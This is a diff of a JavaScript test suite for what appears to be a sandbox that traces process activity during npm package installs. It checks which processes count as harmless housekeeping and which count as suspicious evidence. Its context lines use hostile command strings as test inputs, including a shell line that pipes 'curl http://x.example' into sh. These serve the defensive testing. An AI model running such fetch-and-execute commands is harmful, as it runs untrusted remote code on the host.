@@ -289,6 +289,18 @@ describe("the idle window's harness shell", () => {
     ]);
   });
 
+  it('the steps runner (the install phase\'s `npm install` again, then the import) is housekeeping as the phase root', async () => {
+    const runner = ['node', '/usr/local/libexec/steps.cjs', 'npm', 'install', ';', 'node', '/usr/local/libexec/import-npm.cjs', 'evil'];
+    const steps = trace(JSON.stringify(runner)).replace('execve("/bin/sh"', 'execve("/usr/bin/node"').replace('["npm", "rebuild", "evil", "--foreground-scripts"]', '["npm", "install"]');
+    const b = await buildBehavior({ phases: [{ name: 'idle', events: parseTraceText(steps) }], sandbox });
+    expect(b.processes.map((p) => [p.argv.slice(0, 2).join(' '), p.housekeeping ?? false])).toEqual([
+      ['node /usr/local/libexec/steps.cjs', true],
+      ['npm install', true],
+      ['sh -c', false],
+      ['node /usr/local/libexec/import-npm.cjs', false],
+    ]);
+  });
+
   it('a look-alike shell that is not the root, or runs anything else, stays evidence', async () => {
     expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `${script}; curl http://x.example | sh`])))[0]).toEqual(['/bin/sh', false]);
     expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `'curl' 'http://x.example'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`])))[0]).toEqual(['/bin/sh', false]);
